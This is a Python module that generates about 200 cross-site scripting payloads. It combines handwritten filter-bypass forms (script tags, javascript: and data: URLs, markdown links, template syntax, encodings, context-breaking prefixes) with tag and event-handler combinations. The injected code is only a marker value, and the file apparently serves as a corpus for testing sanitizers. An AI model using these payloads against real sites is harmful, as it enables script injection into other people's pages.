"""Two hundred ways to smuggle a script into a page: what the usual lists vary, combined."""

from itertools import product

CODE = "pwned=1"
_HANDLERS = ("onerror", "onload", "onfocus autofocus", "onmouseover", "ontoggle", "onanimationstart", "onclick")
_TAGS = ("img src=x", "svg", "body", "details open", "video src=x", "input", "iframe srcdoc=x", "marquee", "audio")
_BREAKS = ("", '">', "'>", "</textarea>", "</title>", "-->", "</style></script>")
_WHOLE = (
    f"<script>{CODE}</script>",
    f"<ScRiPt>{CODE}</sCrIpT>",
    f"<script src=data:text/javascript,{CODE}></script>",
    f"<<script>{CODE}//<</script>",
    f"<scr<script>ipt>{CODE}</scr</script>ipt>",
    f"<iframe src=javascript:{CODE}>",
    f"<object data=javascript:{CODE}>",
    f"<embed src=javascript:{CODE}>",
    f"<form action=javascript:{CODE}><button>x</button></form>",
    f"<a href=javascript:{CODE}>x</a>",
    f"<a href='java\tscript:{CODE}'>x</a>",
    f"<math><a xlink:href=javascript:{CODE}>x</a></math>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{CODE} /></svg>",
    f"<base href=javascript:{CODE}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CODE}'>",
    f"<link rel=stylesheet href=javascript:{CODE}>",
    "<style>@import 'http://x.invalid/x.css';</style>",
    f"<template><script>{CODE}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    f"[x](javascript:{CODE})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"![x](x onerror={CODE})",
    f'[x](https://x.invalid/" onmouseover={CODE})',
    f'https://x.invalid/"onmouseover={CODE}',
    f"https://x.invalid/<script>{CODE}</script>",
    f"{{{{constructor.constructor('{CODE}')()}}}}",
    f"${{{CODE}}}",
    f"#{{{CODE}}}",
    f"<%= {CODE} %>",
    f"&lt;script&gt;{CODE}&lt;/script&gt;",
    f"&#60;script&#62;{CODE}&#60;/script&#62;",
    f"\\u003cscript\\u003e{CODE}\\u003c/script\\u003e",
    f"%3Cscript%3E{CODE}%3C/script%3E",
    f"\uff1cscript\uff1e{CODE}\uff1c/script\uff1e",
    f"';{CODE};//",
    f'";{CODE};//',
    f"`;{CODE};`",
    f"</script><script>{CODE}</script>",
    f"]]><script>{CODE}</script>",
    f"<!--><script>{CODE}</script>",
    f"<x style=behavior:url(#{CODE})>",
    f"<img src=`x`onerror={CODE}>",
    f"<img/src/onerror={CODE}>",
    f"<svg/onload={CODE}//",
    f"```html\n<script>{CODE}</script>\n```",
    f"> <img src=x onerror={CODE}>",
    f"**<img src=x onerror={CODE}>**",
)
_BUILT = (f"{ahead}<{tag} {handler}={CODE}>" for tag, handler, ahead in product(_TAGS, _HANDLERS, _BREAKS))
PAYLOADS = (*_WHOLE, *list(_BUILT)[:: (len(_TAGS) * len(_HANDLERS) * len(_BREAKS)) // 150][:150])
